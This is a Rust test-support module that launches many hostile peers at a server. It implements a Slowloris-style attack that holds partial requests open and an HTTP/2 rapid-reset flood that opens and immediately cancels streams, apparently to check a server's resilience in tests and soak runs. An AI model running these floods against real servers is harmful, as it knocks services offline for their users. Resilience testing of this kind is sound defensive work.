//! Peers that mean no good, many at a time: from an address of their own on this machine, against any server. The tests
//! have some hundreds of them, the soak ten thousand.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use anyhow::Context as _;
use tokio::io::AsyncWriteExt as _;
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinHandle;

use crate::http2::{END_HEADERS, END_STREAM, Frame, kind, literal};

/// Opens so many connections, begins a request on each and goes no further (attack HTTP-03). Those that the server
/// closes are among them all the same. Dropped, they end.
///
/// # Errors
/// This process may not open so many.
pub async fn slow_connections(to: SocketAddr, from: IpAddr, count: usize) -> anyhow::Result<Vec<TcpStream>> {
    let mut streams = Vec::with_capacity(count);
    for _ in 0..count {
        let mut stream = connect(to, from).await?;
        // It may be closed already: that is what is hoped for.
        drop(stream.write_all(b"GET /login HTTP/1.1\r\nHost: localho").await);
        streams.push(stream);
    }
    Ok(streams)
}

/// A flood that runs.
#[derive(Debug)]
pub struct Flood {
    task: JoinHandle<()>,
    sent: Arc<AtomicUsize>,
}

impl Flood {
    /// Waits until so much was sent, in requests.
    ///
    /// # Errors
    /// The server takes nothing any more.
    pub async fn reaches(&self, requests: usize) -> anyhow::Result<()> {
        let sent = async {
            while self.sent.load(Ordering::SeqCst) < requests {
                tokio::time::sleep(Duration::from_millis(5)).await;
            }
        };
        tokio::time::timeout(Duration::from_mins(1), sent).await.context("the flood comes to nothing")
    }

    /// Ends it. Returns how much was sent, in requests.
    pub async fn stop(self) -> usize {
        self.task.abort();
        drop(self.task.await);
        self.sent.load(Ordering::SeqCst)
    }
}

/// Opens streams of HTTP/2 and resets them at once, as fast as the server takes them, on a new connection whenever it
/// ends the old one (attack HTTP-06). `host` is the server's, as in a Host header.
pub fn resets(to: SocketAddr, from: IpAddr, host: &str) -> Flood {
    let sent = Arc::new(AtomicUsize::new(0));
    let (counted, host) = (Arc::clone(&sent), host.to_owned());
    let task = tokio::spawn(async move {
        loop {
            if let Ok(stream) = connect(to, from).await {
                reset_on(stream, &host, &counted).await;
            }
            tokio::task::yield_now().await;
        }
    });
    Flood { task, sent }
}

/// Floods one connection until it ends.
async fn reset_on(mut stream: TcpStream, host: &str, sent: &AtomicUsize) {
    const AT_ONCE: u32 = 50;
    let headers = literal(&[
        (b":method", b"GET"),
        (b":scheme", b"http"),
        (b":path", b"/login"),
        (b":authority", host.as_bytes()),
    ]);
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    bytes.extend(Frame::new(kind::SETTINGS, 0, 0, []).bytes());
    let (mut next, mut requests) = (1, 0);
    while stream.write_all(&bytes).await.is_ok() {
        sent.fetch_add(requests, Ordering::SeqCst);
        bytes.clear();
        for number in (next..).step_by(2).take(AT_ONCE as usize) {
            bytes
                .extend(Frame::new(kind::HEADERS, END_HEADERS | END_STREAM, number, headers.clone()).bytes());
            bytes.extend(Frame::new(kind::RESET, 0, number, [0, 0, 0, 8]).bytes());
        }
        next += 2 * AT_ONCE;
        requests = AT_ONCE as usize;
    }
}

async fn connect(to: SocketAddr, from: IpAddr) -> anyhow::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Else all ports of the one address would soon wait for late packets.
    socket.set_reuseaddr(true)?;
    socket.bind(SocketAddr::new(from, 0))?;
    Ok(socket.connect(to).await?)
}
